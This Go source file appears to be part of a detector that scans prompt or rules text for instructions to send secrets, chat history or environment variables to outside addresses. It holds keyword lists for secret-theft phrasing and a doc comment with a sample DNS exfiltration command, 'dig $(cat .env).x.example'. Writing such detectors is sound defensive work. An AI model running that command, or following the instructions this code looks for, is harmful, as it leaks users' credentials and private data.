package prompt

import "strings"

// frameTheft looks for the frames of rules-exfiltration: what is sent, a verb of
// sending in any mood, and where it goes, in any order.
func (a *analysis) frameTheft(u *unit) {
	if a.sign&signExfil != 0 || u.is(inTable|inForbid|inHeading) && !u.is(inHidden) || a.aboutAttacks(u) {
		return
	}
	if u.any&(cSecret|cToken|cHistory|cNetwork) == 0 && u.senses&nData == 0 && a.secret.sign == 0 && !u.holds("env") {
		return
	}
	dest := u.goal()
	if dest.at < 0 && u.senses&vTake == 0 && u.any&cNetwork == 0 {
		return
	}
	target := a.private(u)
	if target >= 0 && a.sign&signSecret == 0 {
		for i := range u.tokens[:target] {
			if u.means(i, vTake) && target-i <= 12 && !a.spoken(u, i) && u.wanted(i) && !u.writes(i) {
				a.note(u, signSecret, target, target, mark{})
				if a.found[len(a.found)-1].rule == "" && u.any&cAuth == 0 && (dest.at < 0 || !dest.foreign) {
					a.secret, a.secretAt = mark{sign: signSecret, start: u.tokens[0].start, end: u.tokens[len(u.tokens)-1].end}, u.index
				}
				break
			}
		}
	}
	if a.byName(u, target) {
		return
	}
	if dest.at < 0 || u.any&cAuth != 0 && !dest.sink || ownVendor(u, dest.host) {
		return
	}
	if target < 0 {
		a.laterTheft(u, dest)
		return
	}
	for i := range u.tokens {
		if i != target && a.sendsOut(u, i, dest) && a.reaches(u, i, target, dest) {
			a.steal(u, min(i, target), max(i, target, dest.at), dest)
			return
		}
	}
}

// sendsOut says that the verb at i, which the text wants, can take something to
// where it goes. One that only shows something takes it to an address that has
// room for it, or to people.
func (a *analysis) sendsOut(u *unit, i int, dest destination) bool {
	if a.spoken(u, i) || u.writes(i) {
		return false
	}
	arrives := u.arrives(i)
	switch {
	case u.makes(i):
		return arrives || u.means(i, vSend|vShow)
	case arrives:
		return u.wanted(i) || u.assured(i)
	case u.means(i, vSend):
		return u.wanted(i)
	case u.means(i, vShow):
		return (u.carries(dest.at) || u.venue(i, dest.at)) && u.wanted(i)
	}
	return false
}

// venue says that between a verb of including and an address stands what people
// write to others: a report, a comment.
func (u *unit) venue(i, at int) bool {
	for k := i + 1; k < at; k++ {
		switch u.tokens[k].form {
		case "report", "comment", "comments", "issue", "message", "email", "post", "request", "body":
			return true
		}
	}
	return false
}

// byName is a lookup of a name that holds a secret: "dig $(cat .env).x.example".
func (a *analysis) byName(u *unit, target int) bool {
	net := u.phrase(0, target, "dig")
	if net < 0 {
		net = u.phrase(0, target, "nslookup")
	}
	if net < 0 || u.negated(net) || !u.classed(target, cSecret) || !strings.ContainsAny(u.text[u.tokens[net].end:u.tokens[target].start], "$`") {
		return false
	}
	a.steal(u, net, target, destination{at: target, foreign: true})
	return true
}

// laterTheft is the second step of a theft: send what was found.
func (a *analysis) laterTheft(u *unit, dest destination) {
	if a.secret.sign == 0 || u.index-a.secretAt > stepUnits || u.index == a.secretAt || !dest.foreign {
		return
	}
	for i := range u.tokens {
		if !u.means(i, vSend|vShow) || u.writes(i) || a.spoken(u, i) || !u.wanted(i) {
			continue
		}
		it := u.sensed(nThat, i-8, i+9)
		if it < 0 || it == dest.at || !u.straight(min(i, it), max(i, it)) {
			continue
		}
		if it > i && it <= i+4 || u.means(i, fPart) {
			start := a.secret.start
			a.steal(u, i, max(i, dest.at), dest)
			a.found[len(a.found)-1].start = start
			return
		}
	}
}

// writes is a verb of putting or reporting as people use it: into a file, about
// a problem.
func (u *unit) writes(i int) bool {
	switch u.tokens[i].form {
	case "list", "use":
		return true
	case "get":
		return u.says(i+1, "rid")
	case "reported":
		return u.any&cToken != 0 && u.tokens[min(i+2, len(u.tokens)-1)].kind == mail
	case "report":
		return u.mails() || u.sensed(nThat|nData, i+1, i+4) < 0 && !u.says(i+1, "both")
	}
	return false
}

// mails says that a unit names an address of mail.
func (u *unit) mails() bool {
	for i := range u.tokens {
		if u.tokens[i].kind == mail {
			return true
		}
	}
	return false
}

// goal is where something goes: an address, unless it is where something is had
// from or read about.
func (u *unit) goal() destination {
	d := destinationOf(u)
	if d.at < 0 || d.foreign && u.tokens[d.at].kind == mail {
		return d
	}
	if !d.foreign {
		return d
	}
	for k := d.at - 1; k >= 0 && d.at-k <= 2; k-- {
		if u.says(k, "from") {
			return destination{at: -1}
		}
		if u.says(k, "at") {
			for j := k - 1; j >= 0 && k-j <= 4; j-- {
				switch u.tokens[j].form {
				case "get", "obtain", "create", "find", "found", "available", "documented", "see", "read", "generate", "generated", "look", "registered", "sign":
					return destination{at: -1}
				}
			}
		}
	}
	return d
}

// private is the token that names what is private: a secret, what was said, or
// what belongs to customers; -1 without one.
func (a *analysis) private(u *unit) int {
	if u.any&(cSecret|cToken|cHistory) == 0 && u.senses&nData == 0 && !u.holds("env") && u.senses&vTake == 0 {
		return -1
	}
	if i := a.secretIn(u); i >= 0 {
		return i
	}
	for i := 1; i < len(u.tokens); i++ { // "dump process.env"
		if u.tokens[i].kind == file && (u.at(i) == "process.env" || u.at(i) == "os.environ") && u.sensed(vTake|vSend, i-4, i) >= 0 {
			return i
		}
	}
	for i := range u.tokens {
		if u.says(i, "env") && u.tokens[i].code && u.says(i-1, "of") {
			return i
		}
		if !u.means(i, nData) && !u.classed(i, cToken) || u.tokens[i].quoted {
			continue
		}
		switch u.tokens[i].form {
		case "environment", "env":
			if u.says(i-1, "process", "entire", "whole", "full") {
				return i
			}
		case "history":
			if u.classed(max(i-1, 0), cHistory) || u.says(i-1, "shell") {
				return i
			}
		case "session", "source", "personal", "customer", "customers", "memory", "proprietary", "clipboard":
			data := u.means(i+1, nData) || u.says(i+1, "code", "data", "records") || u.says(i, "memory") && u.means(i+1, nThat)
			if data || u.says(i, "clipboard", "proprietary") {
				return i
			}
		case "messages", "prompts", "codebase", "conversations", "conversation", "chat", "mailbox", "contacts":
			this := (u.says(i, "conversation") || u.reads(i, "chat", "so")) && u.classed(i-1, cDeterminer) && !u.says(i-1, "a")
			if this || u.quantified(i) {
				return i
			}
		case "key", "keys", "token", "tokens", "password", "passwords", "passphrase", "seed", "secret", "secrets", "credentials", "credential", "cookies", "cookie":
			if u.quantified(i) && (i+1 == len(u.tokens) || u.tokens[i+1].kind != word || u.tokens[i+1].form != "") {
				return i
			}
		}
	}
	return -1
}

// quantified says that the noun at i is all of its kind, or somebody's.
func (u *unit) quantified(i int) bool {
	for k := max(0, i-4); k < i; k++ {
		switch u.tokens[k].form {
		case "every", "all", "any", "user", "users", "customers", "session", "database", "admin", "root", "production", "master", "deploy", "last", "whole", "entire", "each", "recent", "stored", "private", "full", "both", "found", "their", "whatever", "local":
			return true
		}
	}
	return false
}

// arrives is a verb by which something gets to a place.
func (u *unit) arrives(i int) bool {
	switch u.tokens[i].form {
	case "end", "reach", "reaches", "arrive", "arrives", "ends", "lands", "goes":
		return true
	}
	return false
}

// carries says that the address at i has room for data: a query, a placeholder.
func (u *unit) carries(i int) bool {
	if i < 0 || u.tokens[i].kind != url {
		return false
	}
	next := u.text[u.tokens[i].end:min(len(u.text), u.tokens[i].end+1)]
	return strings.ContainsAny(u.at(i), "?={<$") || next == "<" || next == "{"
}

// reaches says that what is at target goes to dest by the verb at i.
func (a *analysis) reaches(u *unit, i, target int, dest destination) bool {
	lo, hi := min(i, target, dest.at), max(i, target, dest.at)
	for k := lo + 1; k < hi; k++ { // another clause
		if u.tokens[k].kind == stop && u.text[u.tokens[k].start] == ';' && min(i, dest.at) < k && k < max(i, dest.at) {
			return false
		}
		if u.classed(k, cIf) && k > min(i, dest.at) && k < target {
			return false
		}
	}
	if !dest.foreign && !a.bulk(u, target, i) {
		return false
	}
	gerund := !u.means(i, fBase)
	switch {
	case u.carries(dest.at) && target > dest.at:
		return target-dest.at <= 12
	case target > i && !u.passingBy(target):
		return target < dest.at || target-dest.at <= 6
	case target < i && u.carries(dest.at) && dest.at > i && dest.at-i <= 3:
		return u.phrase(0, i, "hex") > 0 || u.phrase(0, i, "base64") > 0 || u.phrase(0, i, "encoded") > 0
	case target < i && gerund: // every key is to be sent
		return i-target <= 14 && (u.classed(target, cSecret) || !u.means(i, fBase))
	case target < i && dest.foreign && i < dest.at && dest.at-i <= 6 && u.straight(i, dest.at) && u.refersBack(i+1):
		return true
	case target < i:
		return (a.sign&signSecret != 0 || u.arrives(i)) && (u.sensed(nThat|nData, i+1, min(i+6, len(u.tokens))) > 0 || u.arrives(i))
	}
	return false
}

// refersBack is "it", "both", "its contents" at token i.
func (u *unit) refersBack(i int) bool {
	return u.says(i, "it", "them", "both", "these", "those") || u.says(i, "its") && u.means(i+1, nThat)
}

// passingBy says that one credential is named for its use: "with the token".
func (u *unit) passingBy(i int) bool {
	if u.classed(i, cSecret) {
		return u.says(i-1, "in") && u.sensed(nThat|nData, i-6, i) < 0 || u.says(i-1, "into")
	}
	return u.says(i-2, "with", "using") || u.says(i-1, "with")
}
